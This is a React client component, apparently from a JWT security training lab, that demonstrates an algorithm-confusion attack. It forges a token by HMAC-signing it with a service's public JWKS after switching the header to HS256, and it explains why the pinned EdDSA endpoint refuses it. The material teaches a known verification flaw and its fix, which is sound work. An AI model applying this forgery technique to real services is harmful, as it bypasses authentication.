'use client';

import { fetchLabToken, TokenWorkbench } from '../_components/token-workbench';
import { signHs256, utf8 } from '@/lib/lab/forgery/compact-jws';
import { DEFAULT_DEMO_USER } from '@/lib/users/demo-credentials';

/** Case 9: the app's public JWKS, used as an HMAC secret by a verifier that lets the token pick HS256. */
export function AlgorithmConfusionAttack() {
  return (
    <TokenWorkbench
      slug="algorithm-confusion"
      issueLabel={`Get ${DEFAULT_DEMO_USER.username}’s real access token`}
      issueToken={() => fetchLabToken('/api/jwt/token', { username: DEFAULT_DEMO_USER.username, password: DEFAULT_DEMO_USER.password })}
      forge={{
        label: 'HMAC-sign with the public JWKS',
        run: async ({ header, payload, report }) => {
          const response = await fetch('/.well-known/jwks.json', { cache: 'no-store' });
          const jwksText = await response.text();
          report(
            `Fetched /.well-known/jwks.json (${jwksText.length} bytes, public by design) and used those exact bytes as the HS256 secret.`,
          );
          return signHs256({ ...header, alg: 'HS256' }, payload, utf8(jwksText));
        },
      }}
      why="The weak service was handed the app's public key set and feeds it to whichever algorithm the token names: for HS256 the public text becomes the shared secret, and everyone can download it. The real endpoint pins the algorithm to its key's own (EdDSA), so an HS256 token is refused whatever its signature."
    >
      <p className="text-sm text-slate-700">
        The weak endpoint plays a second service that accepts the app’s real tokens: it verifies the legitimate EdDSA token correctly, with
        the published public key. Try sending the untouched real token to both first.
      </p>
    </TokenWorkbench>
  );
}
